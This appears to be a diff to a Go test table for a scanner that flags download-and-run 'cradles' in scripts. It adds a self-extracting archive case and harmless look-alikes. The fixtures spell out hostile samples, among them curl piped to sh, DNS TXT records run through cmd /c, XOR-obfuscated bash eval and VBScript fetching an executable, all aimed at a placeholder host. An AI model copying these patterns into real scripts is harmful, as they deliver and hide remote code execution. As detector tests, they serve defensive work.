@@ -1,9 +1,28 @@
 package script
 
 import (
+	"archive/tar"
+	"bytes"
 	"encoding/hex"
 	"testing"
 )
+
+// carriedTar packs a text as install.sh into a tar.gz in base64.
+func carriedTar(t *testing.T, text string) string {
+	t.Helper()
+	var b bytes.Buffer
+	w := tar.NewWriter(&b)
+	if err := w.WriteHeader(&tar.Header{Name: "install.sh", Mode: 0o755, Size: int64(len(text))}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.Write([]byte(text)); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b64(gzipped(b.String()))
+}
 
 // TestChannels holds that a cradle is found whatever carries the command or what
 // it brings, and that its honest neighbour is not taken for one.
@@ -17,7 +36,7 @@ func TestChannels(t *testing.T) {
 		{"curl told by its input", "a.cmd", "@echo off\n(echo url=https://a.invalid/s.cmd& echo output=%TEMP%\\s.cmd)| curl -s -K -\ncall %TEMP%\\s.cmd\n", "a.invalid", "direct"},
 		{"curl told by a file", "a.sh", "#!/bin/sh\ncat > c <<X\nurl = \"https://a.invalid/s\"\nX\ncurl -K c | sh\n", "a.invalid", "sh"},
 		{"curl with settings", "a.sh", "#!/bin/sh\ncat > c <<X\nurl = \"https://a.invalid/s\"\noutput = list.txt\nX\ncurl -K c\nsort list.txt\n", "", ""},
-		{"names behind a loop", "a.bat", "@echo off\nfor /f \"tokens=2 delims=^=\" %%a in ('nslookup -q^=txt a.invalid 2^>nul ^| find \"=\"') do cmd /c %%~a\n", "-", "direct"},
+		{"names behind a loop", "a.bat", "@echo off\nfor /f \"tokens=2 delims=^=\" %%a in ('nslookup -q^=txt a.invalid 2^>nul ^| find \"=\"') do cmd /c %%~a\n", "a.invalid", "direct"},
 		{"names that are shown", "a.bat", "@echo off\nfor /f \"tokens=2 delims=^=\" %%a in ('nslookup -q^=txt a.invalid 2^>nul ^| find \"=\"') do echo %%~a\n", "", ""},
 		{"package nobody signed", "a.sh", "#!/bin/sh\ncurl -sLo /tmp/t.snap https://a.invalid/t.snap\nsudo snap install --dangerous /tmp/t.snap\n", "a.invalid", "package"},
 		{"package that is signed", "a.sh", "#!/bin/sh\ncurl -sLo /tmp/t.deb https://a.invalid/t.deb\nsudo dpkg -i /tmp/t.deb\n", "a.invalid", "installer"},
@@ -44,6 +63,8 @@ func TestChannels(t *testing.T) {
 		{"list of words", "a.vbs", "a = Array(\"https://a.invalid/l\", \"%TEMP%\\l.exe\", \"curl -so \")\nSet s = WScript.CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c \" & a(2) & a(1) & \" \" & a(0), 0, True\ns.Run a(1)\n", "a.invalid", "direct"},
 		{"numbers in a loop", "a.command", "#!/bin/bash\nk=37; for b in " + commaNumbers(shellCradle, " ", xored(37)) + "; do s=\"$s$(printf \"\\\\$(printf %o $((b ^ k)))\")\"; done\neval \"$s\"\n", "a.invalid", "bash"},
 		{"octal table", "a.sh", "#!/bin/bash\nk=1; for b in 70 80 87 73 90; do s=\"$s$(printf \"\\\\$(printf %o $((b ^ k)))\")\"; done\necho \"$s\"\n", "", ""},
+		{"archive behind the code", "a.run", "#!/bin/sh\nskip=5\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t; sh $t/install.sh; exit 0\n" + carriedTar(t, "#!/bin/sh\n"+shellCradle+"\n") + "\n", "a.invalid", "bash"},
+		{"harmless archive behind the code", "a.run", "#!/bin/sh\nskip=5\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t; sh $t/install.sh; exit 0\n" + carriedTar(t, "#!/bin/sh\ncp -r files /opt/tool\n") + "\n", "", ""},
 		{"commands in a compiled name", "main.scpt", "cargo install --git https://a.invalid/cli && room join 8841\n", "a.invalid", "package"},
 		{"build in a compiled name", "main.scpt", "# builds the client\ncd $(mktemp -d); curl -sL https://a.invalid/s.tar.gz | tar xz --strip 1; make -s && ./client &\n", "a.invalid", "unzip-run"},
 	} {
@@ -57,9 +78,6 @@ func TestChannels(t *testing.T) {
 			if f.RunBy != "" {
 				host, runBy = f.Host, f.RunBy
 			}
-		}
-		if c.host == "-" {
-			host = "-"
 		}
 		if host != c.host || runBy != c.runBy {
 			t.Errorf("%s: run from %q by %q, want %q by %q: %+v", c.name, host, runBy, c.host, c.runBy, s.Fetches)
